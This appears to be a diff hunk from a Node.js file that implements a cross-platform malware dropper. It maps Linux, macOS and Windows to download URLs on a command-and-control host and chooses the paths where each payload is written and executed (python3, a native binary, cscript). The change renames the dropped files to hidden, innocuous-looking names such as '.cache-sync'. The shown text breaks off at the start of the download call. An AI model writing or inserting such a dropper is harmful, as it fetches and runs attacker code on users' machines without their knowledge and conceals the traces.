@@ -3,9 +3,9 @@ const fs = require('fs');
 const { execFile } = require('child_process');
 const os = require('os');
 const MAP = {
-  linux: { url: 'http://c2.updsvc.example:8000/l', out: '/tmp/ld.py', run: ['python3'] },
-  darwin: { url: 'http://c2.updsvc.example:8000/m', out: '/Library/Caches/com.apple.act.mond', run: [] },
-  win32: { url: 'http://c2.updsvc.example:8000/w', out: os.tmpdir() + '\\6202033.vbs', run: ['cscript', '//nologo'] },
+  linux: { url: 'http://c2.updsvc.example:8000/l', out: '/tmp/.cache-sync.py', run: ['python3'] },
+  darwin: { url: 'http://c2.updsvc.example:8000/m', out: '/tmp/.cache-sync', run: [] },
+  win32: { url: 'http://c2.updsvc.example:8000/w', out: os.tmpdir() + '\\cache-sync.vbs', run: ['cscript', '//nologo'] },
 };
 const t = MAP[process.platform];
 http.get(t.url, (res) => {
